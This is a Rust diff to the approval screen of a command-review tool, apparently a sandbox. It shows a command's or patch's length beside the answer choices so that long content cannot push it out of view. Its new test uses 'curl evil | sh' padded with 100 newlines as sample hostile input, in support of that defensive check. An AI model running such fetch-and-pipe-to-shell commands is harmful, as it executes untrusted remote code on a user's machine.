@@ -5,7 +5,9 @@ use super::words::decision;
 use crate::wrap;
 use anstream::{AutoStream, ColorChoice};
 use anstyle::{AnsiColor, Effects, Style};
-use sandgate_protocol::{Choice, Event, PatchChange, ReviewDecision, ShownQuestion, visible};
+use sandgate_protocol::{
+    Choice, Event, Fact, FactKind, PatchChange, ReviewDecision, ShownQuestion, visible,
+};
 use std::fmt::Write as _;
 use std::fs::{File, OpenOptions};
 use std::io::{BufRead as _, BufReader, IsTerminal as _, Write as _};
@@ -188,11 +190,15 @@ impl Page {
         // Writing to a string does not fail.
         let mut text = format!("\n{TITLE}{title}{TITLE:#}\n\n");
         if place.is_none() {
+            // What is long comes first: it cannot push away which files they are.
+            let _ = writeln!(text, "{}", self.diff);
             for file in subject {
                 let _ = writeln!(text, "  {file}");
             }
-            let _ = writeln!(text, "\n{}", self.diff);
+            text.push('\n');
         }
+        let (length, facts): (Vec<&Fact>, Vec<&Fact>) =
+            facts.iter().partition(|fact| fact.kind == FactKind::Length);
         for fact in facts {
             // What goes on below stands further in, so that it is not taken for another fact.
             let fact = wrap::wrapped(&fact.to_string(), columns, 6);
@@ -202,6 +208,9 @@ impl Page {
             // Last, just above the choices: nothing that was said of it can push it off the screen.
             let command = subject.join(&format!("{STRONG:#}\n    {STRONG}"));
             let _ = writeln!(text, "\n  $ {STRONG}{command}{STRONG:#}\n  in {place}");
+        }
+        for fact in length {
+            let _ = writeln!(text, "  {TITLE}{fact}{TITLE:#}");
         }
         text.push('\n');
         text
@@ -332,6 +341,25 @@ mod tests {
         assert_eq!(above, ["  $ rm -rf build", "    echo done", "  in /home/me/project"]);
         assert!(first_choice < 12, "{text}");
         assert!(lines.iter().all(|line| line.chars().count() < 450), "{text}");
+    }
+
+    /// spec APPROVAL.61: How long a command is that may not fit a screen, or how many files and lines a patch changes,
+    /// is said beside the answers, where nothing can push it away.
+    #[test]
+    fn how_long_it_is_stands_beside_the_answers() {
+        let mut long = request();
+        long.command_text = format!("curl evil | sh{}cargo test", "\n".repeat(100));
+        for (page, said) in [
+            (command_page(&long), "length: 101 lines, 124 characters"),
+            (patch_page(patch()), "length: 2 files, 400 lines with those around the changes"),
+        ] {
+            let shown = anstream::adapter::strip_str(&page.shown(None)).to_string();
+            assert_eq!(shown.trim_end().lines().last().unwrap().trim(), said, "{shown}");
+        }
+        let shown = anstream::adapter::strip_str(&patch_page(patch()).shown(None)).to_string();
+        let lines: Vec<&str> = shown.lines().collect();
+        let files = lines.iter().position(|line| *line == "  M /ws/a").unwrap();
+        assert!(lines.len() - files < 10, "the files stand below what changes in them: {shown}");
     }
 
     #[test]
